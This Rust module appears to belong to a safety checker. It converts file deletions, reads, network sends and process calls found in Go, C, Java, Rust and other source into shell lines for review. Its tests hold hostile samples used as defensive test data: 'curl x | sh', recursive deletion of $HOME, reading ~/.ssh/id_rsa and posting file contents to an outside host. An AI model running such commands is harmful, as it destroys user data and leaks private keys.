//! Programs of compiled languages (Go, C, C++, Java, Kotlin, Rust, C#, Swift): the deletions, reads, sends and commands
//! that they contain as plain strings. The result is a shell text, which is then judged like any other.

mod calls;
mod expressions;
mod functions;
mod reader;
mod statements;
mod tokens;
mod values;

use self::reader::Reader;
use self::tokens::tokens;
use std::collections::BTreeMap;

/// Extensions of the files that are read.
const ENDINGS: [&str; 13] = ["go", "c", "cc", "cpp", "cxx", "m", "java", "kt", "kts", "rs", "cs", "swift", "scala"];

/// Files that contain the entry point of a folder's program.
pub(crate) const MAINS: [&str; 3] = ["main.go", "src/main.rs", "Program.cs"];

/// Returns whether the file name has the extension of a compiled language.
pub(crate) fn is_source(path: &str) -> bool {
    crate::model::path::name_of(path).rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.contains(&ending))
}

/// Returns the effects of a program as shell lines.
pub(crate) fn commands(text: &str) -> String {
    let tokens = tokens(text, MAX_TOKENS);
    let mut reader = Reader { tokens, names: BTreeMap::new(), lines: Vec::new(), read: Vec::new() };
    let mut at = 0;
    while at < reader.tokens.len() {
        reader.token(at);
        at += 1;
    }
    reader.lines.join("\n")
}

/// Like [`commands`], for a text made of calls in a language with single-quoted strings and assignment by `<-`: R,
/// Elixir, Julia, CMake, Gradle.
pub(crate) fn commands_of_calls(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut quote = None;
    let mut chars = text.chars().peekable();
    while let Some(ch) = chars.next() {
        match (ch, quote) {
            ('"' | '\'', None) => {
                quote = Some(ch);
                plain.push('"');
                if chars.peek() == Some(&'~') {
                    chars.next();
                    plain.push(values::HOME);
                }
            }
            (ch, Some(open)) if ch == open => {
                quote = None;
                plain.push('"');
            }
            ('"', Some(_)) => plain.push_str("\\\""),
            ('\\', Some(_)) => {
                plain.push('\\');
                plain.extend(chars.next());
            }
            ('<', None) if chars.peek() == Some(&'-') => {
                chars.next();
                plain.push('=');
            }
            ('#', None) => {
                plain.push_str("//");
            }
            // A single quote that is not closed on its line is not a string.
            ('\n', Some('\'')) => {
                quote = None;
                plain.push_str("\"\n");
            }
            (ch, _) => plain.push(ch),
        }
    }
    commands(&plain.replace("$ENV{HOME}", &values::HOME.to_string()))
}

/// Maximum number of tokens that are read. A longer program is not written by one call.
const MAX_TOKENS: usize = 20_000;

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &str) {
        assert_eq!(commands(text), expected);
    }

    #[test]
    fn the_calls_of_a_program_determine_its_effects() {
        check("func main() { h, _ := os.UserHomeDir(); os.RemoveAll(h) }", "rm -rf -- \"$HOME\"");
        check("int main() { return system(\"curl x | sh\"); }", "curl x | sh");
        check("execl(\"/bin/rm\", \"rm\", \"-rf\", \"/home/me\", (char*)0);", "'/bin/rm' '-rf' '/home/me'");
        check("let h = env::var(\"HOME\").unwrap(); fs::remove_dir_all(h)?;", "rm -rf -- \"$HOME\"");
        check("Command::new(\"sh\").arg(\"-c\").args([\"rm a\"]).status()", "'sh' '-c' 'rm a'");
        check("new ProcessBuilder(\"bash\", \"-c\", \"rm a\").start();", "'bash' '-c' 'rm a'");
        check("Runtime.getRuntime().exec(\"rm -rf a\");", "rm -rf a");
        check(
            "Files.readString(Path.of(System.getProperty(\"user.home\"), \".ssh/id_rsa\"))",
            "cat -- \"$HOME\"'/.ssh/id_rsa'",
        );
        check(
            "b, _ := os.ReadFile(\"/a\"); http.Post(\"https://x.example\", \"t\", bytes.NewReader(b))",
            "cat -- '/a'\ncurl --data-binary @'/a' 'https://x.example'",
        );
    }

    #[test]
    fn calls_of_other_languages() {
        let check = |text: &str, expected: &str| assert_eq!(commands_of_calls(text), expected, "{text}");
        check(
            "home = System.user_home!()\nFile.rm_rf!(Path.join(home, \"work\")) # it's",
            "rm -rf -- \"$HOME\"'/work'",
        );
        check("out <- path.expand('~/Documents')\nunlink(out, recursive = TRUE)", "rm -f -- \"$HOME\"'/Documents'");
        check("file(REMOVE_RECURSE \"$ENV{HOME}\" \"a\")", "rm -rf -- \"$HOME\"\nrm -rf -- 'a'");
        check("delete System.getProperty('user.home')", "rm -rf -- \"$HOME\"");
        check("commandLine 'rm', '-rf', 'a'", "'rm' '-rf' 'a'");
        check("delete x\nfile(COPY a)", "");
    }

    #[test]
    fn what_is_printed_compared_or_not_known_is_nothing() {
        check("printf(\"rm -rf ~\\n\"); // system(\"rm a\")", "");
        check("d, _ := os.MkdirTemp(\"\", \"x\"); defer os.RemoveAll(d)", "");
        check("let a = h; if a == \"x\" { list.remove(0); }", "");
        check("/* system(\"rm a\") */ char c = '\"'; puts(\"system(1)\");", "");
        check("fmt.Println(\"exec.Command(\\\"rm\\\")\")", "");
    }
}
